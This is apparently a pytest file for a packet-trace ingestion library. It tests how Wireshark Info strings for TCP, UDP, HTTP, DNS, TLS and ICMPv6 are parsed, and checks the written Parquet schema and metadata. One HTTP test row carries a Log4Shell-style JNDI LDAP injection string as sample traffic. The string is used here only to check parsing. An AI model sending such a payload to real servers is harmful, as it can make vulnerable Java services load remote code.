"""Stage 2: Info parsing (both arrow forms, every family) and the written Parquet file."""

import hashlib

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from trace_files import write_export

from tracelab.core.packets import PACKET_SCHEMA
from tracelab.ingest.normalize import normalize_trace, parse_info
from tracelab.ingest.validate import validate_trace

CASES = [
    ("TCP", "51292  >  9200 [SYN] Seq=0 Win=64240 Len=0 MSS=1460 SACK_PERM TSval=1 TSecr=0 WS=1024",
     {"src_port": 51292, "dst_port": 9200, "tcp_flags": 0x02, "tcp_seq": 0, "tcp_ack": None,
      "tcp_win": 64240, "tcp_len": 0, "tcp_analysis": None}),
    ("TCP", "80 → 55514 [SYN, ACK] Seq=0 Ack=1 Win=65160 Len=0 MSS=1460",
     {"src_port": 80, "dst_port": 55514, "tcp_flags": 0x12, "tcp_seq": 0, "tcp_ack": 1,
      "tcp_win": 65160, "tcp_len": 0}),
    ("TCP", "[TCP Retransmission] [TCP Port numbers reused] 51292  >  80 [FIN, PSH, ACK] Seq=5 "
            "Ack=9 Win=501 Len=1448",
     {"src_port": 51292, "dst_port": 80, "tcp_flags": 0x19, "tcp_seq": 5, "tcp_ack": 9,
      "tcp_win": 501, "tcp_len": 1448,
      "tcp_analysis": "TCP Retransmission; TCP Port numbers reused"}),
    ("TCP", "443  >  41000 [RST, ACK] Seq=1 Ack=1 Win=0 Len=0",
     {"tcp_flags": 0x14, "tcp_win": 0}),
    ("TCP", "41000  >  443 [ECE, CWR, SYN, URG] Seq=0 Win=1 Urg=3 Len=0", {"tcp_flags": 0xE2}),
    ("UDP", "53  >  40000 Len=50",
     {"src_port": 53, "dst_port": 40000, "tcp_flags": None, "tcp_len": None}),
    ("HTTP", "GET /?x=${jndi:ldap://198.18.0.2:1389/a} HTTP/1.1 ",
     {"http_method": "GET", "http_uri": "/?x=${jndi:ldap://198.18.0.2:1389/a}",
      "http_version": "HTTP/1.1", "http_status": None, "src_port": None}),
    ("HTTP", "HTTP/1.1 404 Not Found  (text/html)",
     {"http_status": 404, "http_version": "HTTP/1.1", "http_method": None}),
    ("DNS", "Standard query 0x1a2b A www.example.org",
     {"dns_query": "www.example.org"}),
    ("DNS", "Standard query response 0x1a2b No such name AAAA nx.example.org SOA ns.example.org",
     {"dns_query": "nx.example.org"}),
    ("TLSv1.2", "Client Hello (SNI=shop.example.org)",
     {"tls_message": "Client Hello (SNI=shop.example.org)", "src_port": None}),
    ("ICMPv6", "Router Solicitation from ba:d8:44:de:50:e7",
     {"src_port": None, "tls_message": None, "dns_query": None, "http_method": None}),
]


@pytest.mark.parametrize("protocol,info,expected", CASES)
def test_parse_info(protocol, info, expected):
    parsed = parse_info(pa.array([info]), pa.array([protocol]))
    for field, value in expected.items():
        assert parsed[field].to_pylist() == [value], field


def test_parse_info_of_a_batch_is_that_of_its_rows_one_by_one():
    # Each family's regex runs only on the rows it can match, then its values are put back in
    # place: mixed rows (and rows matching none) must land where they were.
    rows = [*CASES, ("TCP", "[TCP Dup ACK 3#1] 80  >  1 [ACK] Seq=1 Ack=2 Win=3 Len=0", {}),
            ("HTTP", "HTTP/1.0 200 OK", {}), ("TCP", "1 > 2 [] Seq=1", {}), ("", "", {}),
            ("HTTP", "POST /a HTTP/2", {}), ("DNS", "Standard query 0x0001 A x.org", {})]
    infos, protocols = [r[1] for r in rows], [r[0] for r in rows]
    batch = parse_info(pa.array(infos), pa.array(protocols))
    for i, (protocol, info, _) in enumerate(rows):
        alone = parse_info(pa.array([info]), pa.array([protocol]))
        for field, array in batch.items():
            assert array[i].as_py() == alone[field][0].as_py(), (field, info)


def test_parse_info_fields_match_the_schema():
    parsed = parse_info(pa.array([c[1] for c in CASES]), pa.array([c[0] for c in CASES]))
    for field, array in parsed.items():
        assert array.type == PACKET_SCHEMA.field(field).type, field
        assert len(array) == len(CASES)


def test_normalized_file_schema_relative_time_and_provenance(tmp_path):
    rows = [(str(i + 1), f"2021-12-15 15:35:00.{i:06d}", "198.18.0.2", "198.18.1.1", c[0],
             "74", c[1]) for i, c in enumerate(CASES)]
    source = write_export(tmp_path / "t.csv", rows)
    validate_trace(trace="t", source=source, source_format="wireshark_csv",
                   staged_path=tmp_path / "s.arrow", report_path=tmp_path / "r.json",
                   invalid_path=tmp_path / "i.csv")
    normalize_trace(trace="t", staged_path=tmp_path / "s.arrow", source=source,
                    source_format="wireshark_csv", packets_path=tmp_path / "p.parquet",
                    row_group_rows=4096)
    packets = pq.read_table(tmp_path / "p.parquet")
    assert packets.schema.remove_metadata() == PACKET_SCHEMA
    meta = packets.schema.metadata
    assert meta[b"tracelab.source_sha256"].decode() == hashlib.sha256(
        source.read_bytes()).hexdigest()
    assert meta[b"tracelab.source_path"].decode() == str(source)
    assert packets.column("t_rel_s").to_pylist()[:3] == [0.0, 1e-06, 2e-06]
    assert pq.ParquetFile(tmp_path / "p.parquet").metadata.row_group(0).column(0).compression \
        == "ZSTD"
